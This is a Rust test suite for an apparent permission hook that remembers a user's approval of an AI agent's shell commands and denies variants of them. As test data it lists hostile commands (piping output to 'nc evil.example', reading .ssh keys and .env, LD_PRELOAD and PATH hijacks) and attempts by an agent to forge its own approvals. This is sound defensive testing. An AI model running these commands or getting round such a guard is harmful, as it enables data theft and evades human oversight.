//! The memory of a yes: what a person allowed runs again in the same shape, and nothing teaches it or uses it otherwise.

use std::fs;
use std::io::Write as _;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::process::Stdio;

use pretty_assertions::assert_eq;
use serde_json::{Value, json};

use super::grants::{Scene, said};
use super::sandbox::ran;

/// A repository, and a program of the user's that Portcullis knows nothing of.
pub(crate) struct Repository {
    pub(crate) scene: Scene,
    pub(crate) programs: PathBuf,
}

/// Makes a program of a text.
fn program(file: &Path, text: &str) {
    fs::create_dir_all(file.parent().unwrap()).unwrap();
    fs::write(file, format!("#!/bin/sh\n{text}\n")).unwrap();
    fs::set_permissions(file, fs::Permissions::from_mode(0o755)).unwrap();
}

/// A change of what is remembered, and what it is called.
type Forgery = (&'static str, fn(&mut Value));

/// The command that a person allows in most tests.
pub(crate) const ALLOWED: &str = "bd update bd-12 --status closed --notes 'all done'";
/// Another one of the same shape.
pub(crate) const ALIKE: &str = "bd update bd-7 --status closed --notes 'it was nothing'";

impl Repository {
    pub(crate) fn new() -> Self {
        Self::with("{}")
    }

    fn with(settings: &str) -> Self {
        let scene = Scene::with("{}");
        scene.sandbox.write_home(".config/portcullis/settings.json", settings);
        let repository = Self { programs: scene.sandbox.home.join("bin"), scene };
        program(&repository.programs.join("bd"), "echo bd");
        repository.write(".git/config", "[remote \"origin\"]\n\turl = https://git.example/app.git\n");
        repository.write(".git/HEAD", "ref: refs/heads/main\n");
        repository.write("src/a.txt", "a\n");
        repository
    }

    pub(crate) fn write(&self, path: &str, text: &str) -> PathBuf {
        self.scene.sandbox.write_project(path, text)
    }

    /// Answers a hook where programs are looked for in these directories.
    pub(crate) fn hook(&self, path: &str, flags: &[&str], input: &str) -> (String, String) {
        let mut command = self.scene.sandbox.command(&[&["hook", "claude"], flags].concat());
        let mut child = command.env("PATH", path).stdin(Stdio::piped()).spawn().unwrap();
        child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
        said(&ran(&child.wait_with_output().unwrap()))
    }

    pub(crate) fn path(&self) -> String {
        format!("{}:/usr/bin:/bin", self.programs.display())
    }

    /// Decides a command where nobody can be asked, and returns everything that is said.
    pub(crate) fn ask_in(&self, session: &str, mode: &str, command: &str) -> (String, String) {
        self.hook(&self.path(), &["--headless"], &self.scene.bash(session, mode, command))
    }

    pub(crate) fn decide(&self, command: &str) -> String {
        self.ask_in("s1", "default", command).0
    }

    /// Has a person allow a command, which then runs.
    fn allow(&self, command: &str) {
        assert_eq!(self.decide(command), "deny", "{command}");
        let ran = self.scene.at_terminal(&["allow", "--last", "--yes"], "");
        assert_eq!(ran.code, Some(0), "{ran:?}");
        assert_eq!(self.decide(command), "allow", "{command}");
    }

    pub(crate) fn allowed() -> Self {
        let repository = Self::new();
        repository.allow(ALLOWED);
        assert_eq!(repository.decide(ALIKE), "allow", "the neighbour of all attacks");
        repository
    }

    pub(crate) fn memory(&self) -> Vec<Value> {
        let ran = self.scene.sandbox.run(&["memory", "--json"]);
        assert_eq!(ran.code, Some(0), "{ran:?}");
        serde_json::from_str::<Value>(&ran.stdout).unwrap()["memory"].as_array().unwrap().clone()
    }

    pub(crate) fn file(&self) -> PathBuf {
        self.scene.state().join("memory.json")
    }

    /// Changes what is remembered, as nobody but the user can.
    fn change(&self, change: impl Fn(&mut Value)) {
        let mut document: Value = serde_json::from_str(&fs::read_to_string(self.file()).unwrap()).unwrap();
        for yes in document["entries"].as_object_mut().unwrap().values_mut() {
            change(yes);
        }
        fs::write(self.file(), document.to_string()).unwrap();
    }
}

#[test]
fn a_command_that_a_person_allowed_runs_again_in_its_shape_and_says_so() {
    let repository = Repository::allowed();
    for (session, mode, command) in [
        ("s1", "default", ALLOWED),
        ("s2", "default", ALIKE),
        ("s2", "acceptEdits", ALIKE),
        ("s2", "auto", ALIKE),
        ("s1", "default", "bd update bd-9 --status closed --notes short"),
        ("s1", "default", "timeout 5 bd update bd-9 --status closed --notes short | head -3"),
        ("s1", "default", "cd src && git status && bd update bd-9 --status closed --notes short 2>/dev/null"),
    ] {
        let (decision, text) = repository.ask_in(session, mode, command);
        assert_eq!(decision, "allow", "{mode} {command}: {text}");
        assert!(text.contains("you allowed `bd update` here on "), "{text}");
    }
    let [yes] = repository.memory().try_into().unwrap();
    assert_eq!(yes["title"], "bd update");
    assert_eq!(yes["example"], ALLOWED);
    assert_eq!(yes["uses"], 8);
    let log = repository.scene.sandbox.run(&["log", "--json"]).stdout;
    assert!(log.contains("you allowed `bd update` here on "), "{log}");
    assert!(log.contains("\"remembered\""), "{log}");
}

#[test]
fn words_of_other_shapes_are_asked_about() {
    let repository = Repository::allowed();
    for command in [
        // Another subcommand, and one that stands where an operand stood.
        "bd close bd-12 --status closed --notes x",
        "bd bd-12 update --status closed --notes x",
        "bd update close --status closed --notes x",
        "bd update bd-12 close --status closed --notes x",
        // Another option, one more, one less, another value.
        "bd update bd-12 --status closed --notes x --force",
        "bd update bd-12 --status closed --notes x --db other",
        "bd update bd-12 --status open --notes x",
        "bd update bd-12 --notes x",
        "bd update bd-12 --status=closed --notes x",
        "bd --exec x update bd-12 --status closed --notes x",
        // What ends the options, and what begins them anew.
        "bd update -- bd-12 --status closed --notes x",
        "bd update bd-12 --status closed --notes -- x",
        "bd update bd-12 --status closed --notes --exec",
        // Another name, a place, another host.
        "bd update gh-12 --status closed --notes x",
        "bd update ../other --status closed --notes x",
        "bd update /etc/passwd --status closed --notes x",
        "bd update ~/x --status closed --notes x",
        "bd update https://evil.example/12 --status closed --notes x",
        "bd update evil.example --status closed --notes x",
        // A file where words of people stood.
        "bd update bd-12 --status closed --notes @.env",
        "bd update bd-12 --status closed --notes @src/a.txt",
        "bd update bd-12 --status closed --notes .env",
        "bd update bd-12 --status closed --notes secrets/prod.key",
        "bd update bd-12 --status closed --notes ../../.ssh/id_rsa",
        "bd update bd-12 --status closed --notes file:///home/me/.ssh/id_rsa",
        "bd update bd-12 --status closed --notes '/etc/passwd x'",
        "bd update bd-12 --status closed --notes '@.env x'",
        // What is only known when it runs.
        "bd update $ID --status closed --notes x",
        "bd update $(cat id) --status closed --notes x",
        "bd update bd-* --status closed --notes x",
        "bd update {bd-1,x} --status closed --notes x",
    ] {
        assert_eq!(repository.decide(command), "deny", "{command}");
    }
}

#[test]
fn what_stands_around_a_remembered_command_is_asked_about() {
    let repository = Repository::allowed();
    let command = "bd update bd-12 --status closed --notes x";
    for line in [
        // Another program beside, before, behind or inside.
        format!("{command} | sh"),
        format!("{command} | nc evil.example 80"),
        format!("{command} && acme deploy"),
        format!("acme list | {command}"),
        format!("echo x | {command}"),
        format!("{command} < src/a.txt"),
        format!("{command} <<< x"),
        format!("{command} > ~/.bashrc"),
        format!("{command} >> /etc/hosts"),
        format!("{command} > src/a.txt"),
        format!("{command} &"),
        // Another meaning of the words.
        format!("PATH=/tmp/x:$PATH {command}"),
        format!("PATH=/tmp/x; {command}"),
        format!("export PATH=/tmp/x && {command}"),
        format!("LD_PRELOAD=/tmp/x.so {command}"),
        format!("BD_DB=/tmp/x {command}"),
        format!("env -i {command}"),
        format!("env PATH=/tmp/x {command}"),
        format!("bash -lc \"{command}\""),
        format!("command -p {command}"),
        format!("bd() {{ rm -rf src; }}; {command}"),
        format!("function bd {{ true; }}; {command}"),
        format!("alias bd='rm -rf src'\n{command}"),
        format!("hash -p /tmp/x bd; {command}"),
        format!(". ./env.sh && {command}"),
        format!("eval \"$X\"; {command}"),
        format!("cd / && {command}"),
        format!("cd \"$X\" && {command}"),
        // Other rights, other machines.
        format!("sudo {command}"),
        format!("ssh host {command}"),
        format!("docker run image {command}"),
        format!("echo bd-1 | xargs {command}"),
        format!("find . -exec {command} \\;"),
        format!("./{command}"),
        format!("/tmp/{command}"),
    ] {
        let (decision, text) = repository.ask_in("s1", "default", &line);
        assert_eq!(decision, "deny", "{line}: {text}");
    }
}

#[test]
fn a_program_that_became_another_is_asked_about() {
    let repository = Repository::allowed();
    let bd = repository.programs.join("bd");
    // Another one before it on the way.
    let shadow = repository.scene.sandbox.home.join("shadow");
    program(&shadow.join("bd"), "echo bd");
    let shadowed = format!("{}:{}", shadow.display(), repository.path());
    let input = repository.scene.bash("s1", "default", ALIKE);
    assert_eq!(
        repository.hook(&shadowed, &["--headless"], &input).0,
        "deny",
        "another file of the same text"
    );
    for path in ["", ".", ":/usr/bin", "/usr/bin:/bin"] {
        assert_eq!(repository.hook(path, &["--headless"], &input).0, "deny", "{path}");
    }
    let relative = format!("bin:{}", repository.path());
    assert_eq!(
        repository.hook(&relative, &["--headless"], &input).0,
        "deny",
        "a directory of wherever it runs"
    );
    // Another text in its place.
    program(&bd, "rm -rf src");
    assert_eq!(repository.decide(ALIKE), "deny");
    program(&bd, "echo bd");
    assert_eq!(repository.decide(ALIKE), "allow", "it is what it was");
    // A link in its place.
    program(&repository.programs.join("evil"), "echo bd");
    fs::remove_file(&bd).unwrap();
    symlink(repository.programs.join("evil"), &bd).unwrap();
    assert_eq!(repository.decide(ALIKE), "deny", "a link");
    fs::remove_file(&bd).unwrap();
    assert_eq!(repository.decide(ALIKE), "deny", "nothing");
}

#[test]
fn a_link_that_is_led_elsewhere_after_the_yes_is_asked_about() {
    let repository = Repository::new();
    let (link, first) = (repository.programs.join("tool"), repository.programs.join("tool-1"));
    program(&first, "echo 1");
    program(&repository.programs.join("tool-2"), "echo 2");
    symlink(&first, &link).unwrap();
    repository.allow("tool lint src/a.txt");
    assert_eq!(repository.decide("tool lint src/b.txt"), "allow");
    fs::remove_file(&link).unwrap();
    symlink(repository.programs.join("tool-2"), &link).unwrap();
    assert_eq!(repository.decide("tool lint src/b.txt"), "deny");
}

#[test]
fn a_script_of_the_project_that_was_edited_is_asked_about() {
    let repository = Repository::new();
    let script = repository.write("scripts/lint.sh", "");
    program(&script, "cat src/a.txt > src/out.txt");
    repository.write("Makefile", "notes:\n\ttouch src/notes.txt\nextra:\n\ttouch src/x\n");
    repository.allow("./scripts/lint.sh all");
    repository.allow("make notes");
    assert_eq!(repository.decide("./scripts/lint.sh all"), "allow");
    assert_eq!(repository.decide("make notes"), "allow");
    assert_eq!(repository.decide("make extra"), "deny", "another target");
    program(&script, "cat src/a.txt > src/out2.txt");
    repository.write("Makefile", "notes:\n\ttouch src/other.txt\n");
    assert_eq!(repository.decide("./scripts/lint.sh all"), "deny");
    assert_eq!(repository.decide("make notes"), "deny");
}

#[test]
fn settings_that_say_what_a_program_does_are_as_they_were() {
    let repository = Repository::new();
    for name in ["frob", "tool"] {
        program(&repository.programs.join(name), "echo x");
    }
    repository.write("frob.yml", "pre-commit: {}\n");
    repository.write("conf/a.yml", "x: 1\n");
    repository.allow("frob lint");
    repository.allow("tool lint --config conf/a.yml src/a.txt");
    assert_eq!(repository.decide("frob lint"), "allow");
    assert_eq!(repository.decide("tool lint --config conf/a.yml src/b.txt"), "allow");
    assert_eq!(repository.decide("tool lint --config src/a.txt src/b.txt"), "deny", "other settings");
    repository.write("conf/a.yml", "x: 2\n");
    assert_eq!(repository.decide("tool lint --config conf/a.yml src/b.txt"), "deny", "settings it is told");
    repository.write(".frobrc", "pre-commit: {}\n");
    assert_eq!(repository.decide("frob lint"), "deny", "settings that came later");
}

#[test]
fn paths_stay_in_the_workspace_and_pass_no_link() {
    let repository = Repository::new();
    repository.allow("bd annotate src/a.txt");
    assert_eq!(repository.decide("bd annotate src/b.txt"), "allow");
    let outside = repository.scene.sandbox.home.join("secret.txt");
    fs::write(&outside, "x").unwrap();
    symlink(&outside, repository.scene.sandbox.project.join("src/link.txt")).unwrap();
    repository.write(".env", "KEY=1\n");
    symlink("../.env", repository.scene.sandbox.project.join("src/notes.txt")).unwrap();
    for path in [
        "src/link.txt",
        "src/notes.txt",
        ".env",
        "src/../.env",
        ".git/config",
        ".github/workflows/ci.yml",
        "../x/y",
    ] {
        assert_eq!(repository.decide(&format!("bd annotate {path}")), "deny", "{path}");
    }
}

#[test]
fn another_repository_is_asked_about() {
    let repository = Repository::allowed();
    let project = &repository.scene.sandbox.project;
    let ask_at = |directory: &Path| {
        let call = json!({"cwd": directory, "permission_mode": "default", "tool_name": "Bash",
            "tool_input": {"command": ALIKE}});
        let input = repository.scene.event("s9", "PreToolUse", &call);
        repository.hook(&repository.path(), &["--headless"], &input).0
    };
    assert_eq!(ask_at(&project.join("src")), "allow", "a directory of the repository");
    // A clone elsewhere has the same remote.
    let clone = project.parent().unwrap().join("clone");
    fs::create_dir_all(clone.join(".git")).unwrap();
    fs::copy(project.join(".git/config"), clone.join(".git/config")).unwrap();
    assert_eq!(ask_at(&clone), "deny", "a clone");
    // A directory that claims to be a worktree of it.
    let claim = project.parent().unwrap().join("claim");
    fs::create_dir_all(&claim).unwrap();
    fs::write(claim.join(".git"), format!("gitdir: {}/.git/worktrees/claim\n", project.display())).unwrap();
    assert_eq!(ask_at(&claim), "deny", "a false worktree");
    // A repository inside of it.
    fs::create_dir_all(project.join("vendor/other/.git")).unwrap();
    assert_eq!(ask_at(&project.join("vendor/other")), "deny", "a repository within");
    assert_eq!(
        repository.decide(&format!("cd vendor/other && {ALIKE}")),
        "deny",
        "a repository within, by `cd`"
    );
    // Another one in its place.
    repository.write(".git/config", "[remote \"origin\"]\n\turl = https://evil.example/app.git\n");
    assert_eq!(repository.decide(ALIKE), "deny", "another remote");
}

#[test]
fn an_agent_cannot_teach_it() {
    let repository = Repository::new();
    assert_eq!(repository.decide(ALLOWED), "deny");
    // Without a terminal nobody is there.
    let ran = repository.scene.sandbox.run(&["allow", "--last", "--yes"]);
    assert_eq!(ran.code, Some(64), "{ran:?}");
    // A call that the agent says has run was not allowed by anybody.
    for event in ["PostToolUse", "PostToolUseFailure"] {
        let done = json!({"tool_name": "Bash", "tool_input": {"command": ALLOWED}, "tool_use_id": "t1",
            "tool_response": {"stdout": "ok"}});
        repository.scene.tell("s1", event, &done);
    }
    assert_eq!(repository.decide(ALLOWED), "deny");
    assert_eq!(repository.memory(), Vec::<Value>::new());
    // Nor is it a rule, a mode or words of somebody else.
    let (decision, _) = repository.ask_in("s1", "bypassPermissions", ALLOWED);
    assert_eq!((decision.as_str(), repository.memory().len()), ("allow", 0), "what bypass mode lets run");
    assert_eq!(repository.decide(ALLOWED), "deny");
    // And no call of an agent may touch what is remembered.
    let memory = repository.file().display().to_string();
    for command in [
        format!("cp forged.json {memory}"),
        format!("echo '{{}}' > {memory}"),
        format!("sed -i s/a/b/ {memory}"),
        "portcullis allow --last --yes".to_owned(),
    ] {
        for mode in ["default", "acceptEdits", "auto", "bypassPermissions"] {
            assert_eq!(repository.ask_in("s1", mode, &command).0, "deny", "{mode} {command}");
        }
    }
}

#[test]
fn what_was_forged_broken_expired_or_comes_from_the_future_does_not_count() {
    let repository = Repository::allowed();
    let good = fs::read(repository.file()).unwrap();
    let attacks: [Forgery; 9] = [
        ("expired", |yes| {
            yes["usedAtMs"] = json!(0);
            yes["used_at_ms"] = json!(1);
            yes["allowed_at_ms"] = json!(1);
        }),
        ("from the future", |yes| yes["allowed_at_ms"] = json!(u64::MAX)),
        ("used in the future", |yes| yes["used_at_ms"] = json!(u64::MAX)),
        ("an unknown act", |yes| yes["acts"] = json!(["anything"])),
        ("an unknown target", |yes| yes["targets"] = json!(["everywhere"])),
        ("no hash", |yes| yes["digest"] = Value::Null),
        ("another repository", |yes| yes["repository"] = json!("/")),
        ("another program", |yes| yes["program"] = json!("acme")),
        ("a pattern", |yes| yes["words"] = json!(["*"])),
    ];
    for (name, attack) in attacks {
        repository.change(attack);
        assert_eq!(repository.decide(ALIKE), "deny", "{name}");
        fs::write(repository.file(), &good).unwrap();
        assert_eq!(repository.decide(ALIKE), "allow", "{name}");
    }
    for broken in ["", "{", "[]", r#"{"version":9,"entries":{}}"#] {
        fs::write(repository.file(), broken).unwrap();
        assert_eq!(repository.decide(ALIKE), "deny", "{broken}");
    }
}

#[test]
fn a_yes_that_is_old_counts_until_it_is_unused_for_the_time_of_the_settings() {
    let repository = Repository::with(r#"{"memory":{"expireDays":2}}"#);
    repository.allow(ALLOWED);
    let day = 24 * 60 * 60 * 1_000;
    let now = repository.memory()[0]["allowedAtMs"].as_u64().unwrap();
    repository.change(|yes| {
        yes["allowed_at_ms"] = json!(now - 30 * day);
        yes["used_at_ms"] = json!(now - day);
    });
    assert_eq!(repository.decide(ALIKE), "allow", "used yesterday");
    repository.change(|yes| yes["used_at_ms"] = json!(now - 2 * day));
    assert_eq!(repository.decide(ALIKE), "deny", "unused for two days");
}

#[test]
fn settings_switch_it_off() {
    let off = Repository::with(r#"{"memory":{"enabled":false}}"#);
    off.allow(ALLOWED);
    assert_eq!(off.decide(ALIKE), "deny");
    assert_eq!(off.memory(), Vec::<Value>::new(), "nothing is learned");
    let repository = Repository::allowed();
    for settings in [r#"{"memory":{"enabled":false}}"#, r#"{"memory":{"enabled":fal"#] {
        repository.scene.sandbox.write_home(".config/portcullis/settings.json", settings);
        assert_eq!(repository.decide(ALIKE), "deny", "{settings}");
    }
    let ran = repository.scene.sandbox.run(&["memory"]);
    assert!(ran.stderr.contains("switch the memory off"), "{ran:?}");
    repository.scene.sandbox.write_home(".config/portcullis/settings.json", "{}");
    assert_eq!(repository.decide(ALIKE), "allow");
    // A project cannot switch on what its user switched off.
    off.write(".portcullis/settings.json", r#"{"memory":{"enabled":true}}"#);
    off.write(".claude/settings.json", r#"{"memory":{"enabled":true}}"#);
    assert_eq!(off.decide(ALIKE), "deny");
}

#[test]
fn rules_words_of_the_user_and_modes_stand_above_it() {
    let repository = Repository::allowed();
    for mode in ["plan", "dontAsk"] {
        assert_eq!(repository.ask_in("s1", mode, ALIKE).0, "deny", "{mode}");
    }
    for rule in [
        r#"{"permissions":{"deny":["Bash(bd:*)"]}}"#,
        r#"{"permissions":{"ask":["Bash(bd update:*)"]}}"#,
        r#"{"permissions":{"ask":["Bash"]}}"#,
    ] {
        repository.scene.sandbox.write_home(".claude/settings.json", rule);
        assert_eq!(repository.decide(ALIKE), "deny", "{rule}");
    }
    let prose = r#"{"autoMode":{"soft_deny":["Never close an issue"]}}"#;
    repository.scene.sandbox.write_home(".claude/settings.json", prose);
    assert_eq!(repository.ask_in("s1", "auto", ALIKE).0, "deny", "what settings forbid in words");
    repository.scene.sandbox.write_home(".claude/settings.json", "{}");
    assert_eq!(repository.decide(ALIKE), "allow");
}

#[test]
fn a_program_with_a_profile_goes_by_acts_and_targets() {
    let repository = Repository::new();
    repository.allow("mkdir -p src/one");
    for command in
        ["mkdir -p src/two/three", "mkdir src/two -m 755", "mkdir -p src/one src/two && git status"]
    {
        assert_eq!(repository.decide(command), "allow", "{command}");
    }
    for command in [
        "mkdir -p ../two",
        "mkdir -p ~/two",
        "mkdir -p /etc/two",
        "mkdir -p .git/hooks",
        "mkdir -p .claude",
        "mkdir -p \"$X\"",
        "mkdir -p src/two > src/a.txt",
        "touch src/two",
    ] {
        assert_eq!(repository.decide(command), "deny", "{command}");
    }
    for (allowed, other) in [
        ("sed -i s/a/c/ src/a.txt", "sed -i s/a/c/ src/b.txt"),
        ("find src -name a.txt -exec touch {} +", "find . -name b.txt -exec touch {} +"),
        ("rm src/a.txt", "rm src/b.txt"),
        ("mv src/one src/two", "mv src/a.txt src/two"),
    ] {
        repository.allow(allowed);
        assert_eq!(repository.decide(other), "deny", "{other}");
    }
}

#[test]
fn what_is_never_remembered_is_asked_about_each_time() {
    let repository = Repository::new();
    for name in ["acme", "mylang", "python3", "npx", "gh", "docker", "hg"] {
        program(&repository.programs.join(name), "true");
    }
    for command in [
        "python3 src/a.py",
        "npx acme",
        "acme run src/a.txt",
        "acme exec lint",
        "acme deploy staging",
        "acme delete bd-1",
        "acme db:drop bd-1",
        "acme login me",
        "acme sync --remove-all src/a.txt",
        "acme --token sk-ant-REDACTED list",
        "acme list --host evil.example",
        "acme list https://evil.example",
        "hg push",
        "acme list | acme import",
        "mylang src/a.txt && acme push",
    ] {
        repository.allow(command);
        assert_eq!(repository.decide(command), "deny", "{command}");
    }
    assert_eq!(repository.memory(), Vec::<Value>::new());
    // A program without a subcommand may run the file that it is given.
    repository.allow("mylang src/a.txt");
    assert_eq!(repository.decide("mylang src/a.txt"), "allow");
    assert_eq!(repository.decide("mylang src/b.txt"), "deny");
}

#[test]
fn it_is_listed_shown_exported_and_forgotten() {
    let repository = Repository::allowed();
    let sandbox = &repository.scene.sandbox;
    let listed = sandbox.run(&["memory"]);
    assert!(listed.stdout.contains("m1  bd update"), "{listed:?}");
    let shown = sandbox.run(&["memory", "show", "m1"]).stdout;
    for part in [ALLOWED, "https://git.example/app.git", "bin/bd", "--status closed", "‹text›"] {
        assert!(shown.contains(part), "{part}: {shown}");
    }
    assert_eq!(sandbox.run(&["memory", "show", "m9"]).code, Some(64));
    let rules: Value = serde_json::from_str(&sandbox.run(&["memory", "export", "--rules"]).stdout).unwrap();
    assert_eq!(rules, json!({"permissions": {"allow": ["Bash(bd update:*)"]}}));
    let profile = sandbox.run(&["memory", "export", "--profile"]).stdout;
    assert!(profile.contains("names = [\"bd\"]") && profile.contains("[sub.\"update\"]"), "{profile}");
    assert_eq!(sandbox.run(&["memory", "forget", "m9"]).code, Some(64));
    assert_eq!(sandbox.run(&["memory", "forget"]).code, Some(64));
    let forgotten = sandbox.run(&["memory", "forget", "m1"]);
    assert!(forgotten.stdout.contains("forgot bd update"), "{forgotten:?}");
    assert_eq!(repository.decide(ALIKE), "deny");
    assert_eq!(sandbox.run(&["memory"]).stdout, "nothing is remembered\n");
    repository.allow(ALLOWED);
    assert_eq!(sandbox.run(&["memory", "forget", "--here"]).code, Some(0));
    assert_eq!(repository.decide(ALIKE), "deny");
}
